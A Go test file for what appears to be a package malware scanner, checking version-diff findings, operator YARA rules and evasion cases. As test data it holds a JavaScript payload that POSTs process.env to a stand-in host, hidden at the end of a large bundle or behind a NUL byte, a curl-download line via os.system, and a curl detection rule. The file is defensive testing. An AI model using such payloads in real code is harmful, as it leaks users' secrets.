package main

import (
	"context"
	"maps"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/threatd/threatd/core/analysis"
	"github.com/threatd/threatd/plugins/rules"
)

// with is files plus more (a later version of a package).
func with(files map[string][]byte, more map[string]string) map[string][]byte {
	out := maps.Clone(files)
	for k, v := range more {
		out[k] = []byte(v)
	}
	return out
}

// TestDiffPairs: only what a version adds makes it suspicious. A version
// that turns malicious is suspicious with new findings; one that adds
// ordinary code stays clean; one that keeps a finding its previous
// version had stays clean, the finding marked not new.
func TestDiffPairs(t *testing.T) {
	t.Parallel()
	a := newAnalyzer()
	base := caseFiles(t, "testdata/corpus/benign/npm/http-client")
	stealer := caseFiles(t, "testdata/corpus/malicious/npm/env-token-stealer")
	oldFinding := caseFiles(t, "testdata/corpus/malicious/npm/base64-eval")
	ordinary := map[string]string{"lib/retry.js": "module.exports = function retry(fn, n) { for (let i = 0; i < n; i++) { try { return fn(); } catch (e) {} } };\n"}
	for _, c := range []struct {
		name         string
		prev, next   map[string][]byte
		want         string
		wantNew      bool
		wantFindings bool
	}{
		{"turns malicious", base, with(base, map[string]string{"lib/telemetry.js": string(stealer["index.js"])}), analysis.VerdictSuspicious, true, true},
		{"adds ordinary code", base, with(base, ordinary), analysis.VerdictClean, false, false},
		{"keeps an old finding", oldFinding, with(oldFinding, ordinary), analysis.VerdictClean, false, true},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			prev := pack(t, "npm", "prev", c.prev)
			next := pack(t, "npm", "next", c.next)
			res := analyse(t, a, "npm", next, prev)
			if res.Verdict != c.want || (len(res.Findings) > 0) != c.wantFindings {
				t.Fatalf("%s, findings %+v; want %s", res.Verdict, res.Findings, c.want)
			}
			for _, f := range res.Findings {
				if f.Severity.Rank() >= analysis.SeverityHigh.Rank() && f.New != c.wantNew {
					t.Errorf("%s in %s: new %v, want %v", f.Rule, f.File, f.New, c.wantNew)
				}
			}
		})
	}
}

// TestRulesDir: the operator's .yar files are read unchanged from
// analysis.rules_dir, beside threatd's: includes beside them, private
// rules and rules with no meta (building blocks, not findings), GuardDog's
// meta (severity, path_include); their rule names are
// the findings' rules. A rule file that does not compile is an error
// naming the file and line.
func TestRulesDir(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	for name, text := range map[string]string{
		"shared.meta": `rule shared_net { strings: $a = /\bcurl\s+-[sSfL]/ condition: any of them }` + "\n",
		"operator-rule.yar": `include "shared.meta"

rule operator_curl_in_python
{
    meta:
        description = "an operator's rule, in GuardDog's layout"
        identifies = "operator.curl"
        severity = "high"
        path_include = "*.py"
    strings:
        $sys = "os.system("
    condition:
        shared_net and $sys
}
`,
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	a := newAnalyzer()
	files := map[string][]byte{
		"pkg/__init__.py": []byte("import os\nos.system(\"curl -sL https://x.invalid/a -o /tmp/a\")\n"),
		"pkg/run.js":      []byte("require('child_process'); // os.system( curl -sL\n"),
	}
	archive := pack(t, "pypi", "operator", files)
	req := analysis.Request{Target: analysis.Target{Ecosystem: "pypi", Path: archive}, Limits: analysis.DefaultLimits,
		Threshold: analysis.SeverityHigh, Settings: map[string]string{"rules_dir": dir}}
	res, err := analysis.Run(context.Background(), []analysis.Named{{Name: "rules", Analyzer: a}}, req)
	if err != nil {
		t.Fatal(err)
	}
	var hits []string
	for _, f := range res.Findings {
		if f.Rule == "operator_curl_in_python" {
			hits = append(hits, f.File)
		}
		if f.Rule == "shared_net" {
			t.Errorf("a private rule of an include was reported: %+v", f)
		}
	}
	if res.Verdict != analysis.VerdictSuspicious || len(hits) != 1 || !strings.HasSuffix(hits[0], "pkg/__init__.py") {
		t.Fatalf("%s, the operator's rule in %v; findings %+v", res.Verdict, hits, res.Findings)
	}

	bad := t.TempDir()
	_ = os.WriteFile(filepath.Join(bad, "broken.yar"), []byte("rule broken {\n condition: $missing\n}\n"), 0o644)
	_, err = a.Analyze(context.Background(), analysis.Target{Ecosystem: "pypi", Path: archive}, analysis.DefaultLimits, map[string]string{"rules_dir": bad})
	if err == nil || !strings.Contains(err.Error(), "broken.yar") || !strings.Contains(err.Error(), `undefined string "$missing"`) {
		t.Fatalf("a rule that does not compile: %v", err)
	}
	if _, err := rules.Dir(filepath.Join(bad, "missing")); err == nil || !strings.Contains(err.Error(), "analysis.rules_dir") {
		t.Fatalf("a missing rules_dir: %v", err)
	}
}

// TestNothingHides: a payload past the first 8 MiB of a large bundle is
// read (the file is read whole, bounded by analysis.max_file_bytes), and
// so is a script that starts with a NUL byte to pass for binary.
func TestNothingHides(t *testing.T) {
	t.Parallel()
	a := newAnalyzer()
	payload := "\nconst https = require('https');\nhttps.request({hostname: 'c.hide.invalid', method: 'POST'}).end(JSON.stringify(process.env));\n"
	for name, files := range map[string]map[string][]byte{
		"late in a bundle": {"package.json": []byte(`{"name":"big","version":"1.0.0"}`),
			"dist/bundle.js": []byte(strings.Repeat("var a = [1, 2, 3].map(function (x) { return x * 2; });\n", 10<<20/56) + payload)},
		"NUL-prefixed": {"package.json": []byte(`{"name":"nul","version":"1.0.0"}`), "index.js": []byte("/*\x00*/" + payload)},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			res := analyse(t, a, "npm", pack(t, "npm", "hide", files), "")
			if res.Verdict != analysis.VerdictSuspicious || res.Findings[0].Rule != "threatd_env_dump_sent" {
				t.Fatalf("%s: %+v", res.Verdict, res.Findings)
			}
		})
	}
}
